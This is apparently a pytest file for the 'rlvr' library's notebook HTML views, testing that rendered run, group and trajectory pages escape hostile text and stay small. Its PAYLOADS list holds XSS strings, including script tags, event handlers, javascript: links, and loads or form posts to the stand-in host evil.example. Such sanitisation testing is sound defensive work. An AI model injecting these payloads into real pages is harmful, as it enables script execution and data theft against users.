"""What a notebook shows of runs, groups and trajectories: readable, and inert whatever is in it."""

import re
import subprocess
import sys
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser

import pytest

import rlvr
from builders import WEIGHTS, odd_trajectory, run_info, trajectory, write_run
from rlvr.errors import ConfigurationError, MissingDependency
from rlvr.notebook import register
from rlvr.record import (
    Component,
    ContentPart,
    Message,
    RolloutError,
    ScoreStatus,
    ToolCall,
    ToolResult,
)

ALLOWED = {
    "div": {"class"},
    "span": {"class"},
    "pre": set(),
    "code": set(),
    "details": set(),
    "summary": set(),
    "table": set(),
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": {"class"},
    "td": {"class"},
    "style": set(),
    "svg": {"viewbox", "width", "height", "role", "aria-label"},
    "polyline": {"points", "fill", "stroke", "stroke-width"},
}
MEGABYTE = 1_000_000

PAYLOADS = [
    "<script>alert(1)</script>",
    "</pre></div><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '"><a href="javascript:alert(1)">x</a>',
    "' onmouseover='alert(1)",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</style><script>alert(1)</script><style>*{display:none}",
    "<style>@import '//evil.example/x.css'</style>",
    "</textarea><script>alert(1)</script>",
    "</summary></details><form action=//evil.example><input name=q></form>",
    "<!-- --><base href=//evil.example>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>{{constructor.constructor('alert(1)')()}}",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
    r"$\href{javascript:alert(1)}{x}$ \(\unicode{x3c}\)",
    "<ScRiPt\x00>alert(1)</sCrIpT\x00>",
    "&lt;script&gt;&#60;script&#62;",
    "a\ud800<b>\udfff\U000e0041",
    "\u202e<gpj.x\u202c\u2066\u200b\x1b[31m\x07\x85\ufeff",
    "%3Cscript%3E\\u003cscript\\u003e",
]
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)


class Reading(HTMLParser):
    """The elements of a page, its text, and what is outside of the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: Counter[str] = Counter()
        self.odd: list[str] = []
        self.text: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag, attributes):
        self.seen[tag] += 1
        self.open.append(tag)
        names = {name for name, _ in attributes}
        if tag not in ALLOWED or names - ALLOWED[tag]:
            self.odd.append(f"<{tag} {names}>")

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.odd.append(f"</{tag}>")

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.odd.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def read(page):
    found = Reading()
    found.feed(page)
    found.close()
    assert found.odd == []
    assert found.open == []
    assert found.seen["style"] == 1
    assert HIDDEN.search(page) is None
    assert len(page.encode()) < MEGABYTE
    return " ".join(" ".join(found.text).split())


def everywhere(payload):
    """A rollout with the payload in whatever text it has."""
    call = ToolCall(id=payload, name=payload, arguments=payload)
    parts = (ContentPart(type=payload, rest=payload), ContentPart(type="image_url", rest=payload))
    return trajectory(
        id=payload,
        group_id=payload,
        question=payload,
        answer=payload,
        stop_reason=payload,
        prompt=(Message(role="system", content=payload), Message(role="user", parts=parts)),
        completion=(
            Message(role="assistant", content=payload, reasoning=payload, tool_calls=(call,)),
            Message(role="tool", content=payload, name=payload, tool_call_id=payload),
            Message(role=payload, content=payload),
        ),
        tool_results=(
            ToolResult(turn=0, call_id=payload, name=payload, arguments=payload, error=payload),
        ),
        errors=(RolloutError(where=payload, type=payload, text=payload),),
        components=(
            Component(name=payload, value=1.0),
            Component(name=payload, value=None, status=ScoreStatus.ERROR, error=payload),
        ),
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_an_element_or_an_attribute(payload):
    evil = everywhere(payload)
    other = replace(evil, sample=1, reward=0.1, completion=evil.completion[:1])
    info = run_info(name=payload, model=payload, dataset=payload, components={payload: 1.0})
    for page in (
        rlvr.to_html(evil),
        rlvr.to_html([evil, other]),
        rlvr.to_html((evil,)),
    ):
        assert "tex2jax_ignore mathjax_ignore" in page
        read(page)
    from rlvr.analysis import SUMMARY_COLUMNS, summarise
    from rlvr.codec import to_table
    from rlvr.views.html import run_html

    summary = summarise(to_table([evil, other]).select(SUMMARY_COLUMNS))
    read(run_html(summary, info=info, run=payload, state=payload, damaged=[payload] * 20))


def test_texts_stand_as_they_were_written():
    page = rlvr.to_html(everywhere("<b>&amp; 'x' \u202eab</b>"))
    assert "<b>&amp; 'x' \\u202eab</b>" in read(page)


HUGE = 100_000_000


@pytest.mark.parametrize("text", ["x", "<", "\x00", "\ud800", "\n", " ", '"'])
def test_a_huge_text_is_cut_and_says_how_long_it_is(text):
    evil = everywhere("a")
    huge = text * (HUGE if text == "x" else HUGE // 100)
    message = replace(evil.completion[0], content=f"a{huge}b", reasoning=None)
    page = rlvr.to_html(replace(evil, completion=(message,), question=huge))
    assert f"({len(huge) + 2:,} characters)" in read(page)
    assert "characters cut; rlvr show RUN a --full" in read(page)
    read(rlvr.to_html([replace(evil, completion=(message,))] * 2))


@pytest.mark.parametrize("text", ["\x00", '"', "\U000e0041", "\U0001f600", "a<"])
def test_many_of_everything_stay_below_a_megabyte(text):
    evil = everywhere(text * 30_000)
    call, message = evil.completion[0].tool_calls[0], evil.completion[0]
    many = replace(
        evil,
        completion=(replace(message, tool_calls=(call,) * 60), *evil.completion) * 30,
        components=evil.components * 300,
        tool_results=evil.tool_results * 300,
        errors=evil.errors * 300,
    )
    shown = read(rlvr.to_html(many))
    assert "500 further rows not shown" in shown
    assert "further messages not shown: rlvr show" in shown
    assert "further rows not shown" in read(rlvr.to_html([evil] * 300))


def test_a_trajectory_shows_what_was_said_and_what_it_was_worth(tmp_path):
    run = rlvr.open_run(write_run(tmp_path, steps=2))
    found = next(one for one in run.trajectories() if one.tool_calls)
    shown = read(rlvr.to_html(found, run=run))
    for wanted in ("SYSTEM", "USER", "ASSISTANT", "TOOL retrieve", "CALL retrieve"):
        assert wanted in shown
    assert found.tool_calls[0].arguments in shown
    assert "✓ is the sum" in shown
    assert "(reward − mean) / (std + 1e-4)" in shown
    assert all(name in shown for name in WEIGHTS)
    assert "not recomputed" in read(rlvr.to_html(found))
    assert "not written yet" in read(rlvr.to_html(odd_trajectory()))


def test_a_group_shows_where_its_rollouts_part(tmp_path):
    run = rlvr.open_run(write_run(tmp_path, steps=2, learns=False))
    group = run.group("train-b000001-g001")
    shown = read(rlvr.to_html(group, run=run))
    assert "where they part" in shown
    assert all(one.id in shown for one in group)
    same = [group[0], replace(group[0], sample=1)]
    assert "all do the same" in read(rlvr.to_html(same))
    assert "no gradient" in read(rlvr.to_html(same))
    assert "without rollouts" in read(rlvr.to_html(()))


def test_a_run_shows_its_settings_and_its_curve(tmp_path):
    run = rlvr.open_run(write_run(tmp_path, steps=4))
    page = rlvr.to_html(run)
    shown = read(page)
    assert "two-hop" in shown
    assert "rlvr diagnose" in shown
    assert page.count("<polyline") == 1
    assert "from " in re.search('aria-label="([^"]*)"', page)[1]


def test_a_run_without_anything(tmp_path):
    folder = write_run(tmp_path, steps=0)
    (folder / "run.json").unlink()
    shown = read(rlvr.to_html(rlvr.open_run(folder)))
    assert "run.json is missing" in shown
    assert "no trajectories yet" in shown


@pytest.mark.parametrize("value", [3, "text", [1], None])
def test_what_has_no_page_is_refused(value):
    with pytest.raises(ConfigurationError, match="has no page"):
        rlvr.to_html(value)


class Shell:
    """The twin of IPython's shell: formatters that know types by the names of their modules."""

    class Formatter:
        def __init__(self):
            self.known = {}

        def for_type_by_name(self, module, name, function):
            self.known[module, name] = function

        def __call__(self, value):
            for kind in type(value).__mro__:
                function = self.known.get((kind.__module__, kind.__name__))
                if function is not None:
                    return function(value)
            return None

    def __init__(self):
        self.formatter = self.Formatter()
        self.display_formatter = type("D", (), {"formatters": {"text/html": self.formatter}})()


def test_a_notebook_shows_runs_groups_and_trajectories_alone(tmp_path):
    run = rlvr.open_run(write_run(tmp_path, steps=1))
    group = run.group("train-b000000-g000")
    shell = Shell()
    rlvr.load_ipython_extension(shell)
    for value in (run, group, group[0]):
        read(shell.formatter(value))
    assert shell.formatter(tuple(group)) is None
    assert group == tuple(group)


def test_without_a_notebook_register_says_what_to_do(monkeypatch):
    monkeypatch.setitem(sys.modules, "IPython", None)
    with pytest.raises(MissingDependency, match=r"rlvr\.to_html"):
        register()


def test_loading_the_extension_loads_nothing_heavy():
    code = (
        "import sys, rlvr, unittest.mock as m; rlvr.load_ipython_extension(m.MagicMock());"
        "sys.exit(bool({'pyarrow', 'rich', 'torch'} & set(sys.modules)))"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
